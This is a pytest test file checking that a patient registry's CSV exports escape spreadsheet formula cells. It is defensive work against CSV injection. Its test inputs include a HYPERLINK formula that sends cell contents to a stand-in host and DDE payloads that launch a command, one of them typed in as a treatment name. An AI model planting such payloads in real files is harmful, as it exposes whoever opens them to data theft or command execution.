"""CSV injection: every CSV the registry writes escapes cells a spreadsheet would run."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest

from ifnscope.registry import services
from ifnscope.registry.csvsafe import csv_cell, csv_writer

PASSWORD = "correct horse battery"


@pytest.mark.parametrize(
    "raw",
    [
        '=HYPERLINK("http://x.example/?"&A1,"click")',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "-",
        "=",
    ],
)
def test_formula_cells_get_a_leading_quote(raw: str) -> None:
    assert csv_cell(raw) == "'" + raw


@pytest.mark.parametrize(
    "value", ["methotrexate", "", "1+1", "a=b", "'=quoted", "-1.5", "+2", "-3e-4", 12, -1.5, None]
)
def test_other_cells_and_plain_numbers_pass_unchanged(value: Any) -> None:
    assert csv_cell(value) == value


def test_the_writer_escapes_every_cell_and_reads_back() -> None:
    buf = io.StringIO()
    w = csv_writer(buf)
    w.writerow(["=1+1", "ok", -2, "-2"])
    w.writerows([["@x", "+y"]])
    rows = list(csv.reader(io.StringIO(buf.getvalue())))
    assert rows == [["'=1+1", "ok", "-2", "-2"], ["'@x", "'+y"]]


def test_the_patient_export_escapes_a_formula_typed_as_a_treatment(reg: Any) -> None:
    evil = '=HYPERLINK("http://x.example","open")'
    with reg.transaction() as s:
        p = services.create_patient(s, reg.doc, name="Jane Roe")
        services.add_treatment(s, reg.doc, p.id, name=evil, started="2024-01")
        text = services.export_record(s, reg.doc, p.id, "csv")
    rows = list(csv.DictReader(io.StringIO(text)))
    items = [r["item"] for r in rows if r["kind"] == "treatment"]
    assert items == ["'" + evil]
    for r in rows:
        for cell in r.values():
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell


def test_every_registry_csv_writer_escapes_formulas() -> None:
    """No module of the registry writes CSV with the bare ``csv.writer`` (which would let a typed
    ``=HYPERLINK(...)`` run in a spreadsheet): all go through ``csvsafe``."""
    import pathlib

    import ifnscope.registry as registry

    root = pathlib.Path(registry.__file__).parent
    bare = [
        str(p.relative_to(root))
        for p in root.rglob("*.py")
        if p.name != "csvsafe.py" and ("csv.writer(" in p.read_text() or "csv.DictWriter(" in p.read_text())
    ]
    assert bare == []
